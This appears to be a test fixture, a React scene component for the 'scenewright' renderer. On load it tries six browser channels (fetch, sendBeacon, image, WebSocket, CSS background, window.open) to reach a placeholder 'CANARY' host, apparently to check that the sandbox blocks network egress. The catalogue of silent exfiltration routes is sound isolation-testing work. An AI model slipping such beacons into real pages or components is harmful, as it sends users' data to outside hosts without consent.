// Tries to send what it sees to another address.
import { AbsoluteFill } from "scenewright";
import { useEffect } from "react";

export default function Scene() {
  useEffect(() => {
    const url = "http://CANARY/fetches";
    for (const way of [
      () => fetch(url, { mode: "no-cors" }),
      () => navigator.sendBeacon(url, "x"),
      () => (new Image().src = url),
      () => new WebSocket(url.replace("http", "ws")),
      () => (document.body.style.background = `url(${url})`),
      () => window.open(url),
    ]) {
      try {
        Promise.resolve(way()).catch(() => undefined);
      } catch {}
    }
  }, []);
  return <AbsoluteFill style={{ background: "url(http://CANARY/background)" }}><img src="http://CANARY/img" /><h1>Sent</h1></AbsoluteFill>;
}
